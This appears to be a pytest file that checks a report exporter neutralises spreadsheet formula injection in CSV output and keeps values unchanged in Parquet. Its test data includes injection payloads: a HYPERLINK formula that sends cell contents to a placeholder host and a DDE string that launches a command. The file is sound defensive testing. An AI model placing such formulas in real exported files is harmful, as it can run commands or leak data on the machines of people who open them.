"""Rows as files: what programs read back is the same, and what a spreadsheet opens computes nothing."""

import csv
import io

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline.reports.formats import file_response
from pipeline.reports.inputs import Format

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1", " =1"]
TEXTS = ["good", "", None, "-0.5", "+1e-3", "-7", ".5", "a=b", "'quoted", "2024-01-01"]


def written(texts: list[str | None], kind: Format) -> bytes:
    return bytes(file_response(pa.table({"model_id": pa.array(texts, pa.string())}), kind, "x", len(texts)).body)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_is_a_text_to_it(text: str) -> None:
    _, (found,) = csv.reader(io.StringIO(written([text], Format.CSV).decode(), newline=""))
    assert found == f"'{text}"


def test_other_texts_and_numbers_stay_as_they_are() -> None:
    _, *rows = csv.reader(io.StringIO(written(TEXTS, Format.CSV).decode()))
    assert [row[0] if row else "" for row in rows] == [text or "" for text in TEXTS]


def test_formats_that_no_spreadsheet_computes_hold_every_text_as_it_is() -> None:
    rows = pq.read_table(io.BytesIO(written([*FORMULAS, *TEXTS], Format.PARQUET)))
    assert rows["model_id"].to_pylist() == [*FORMULAS, *TEXTS]
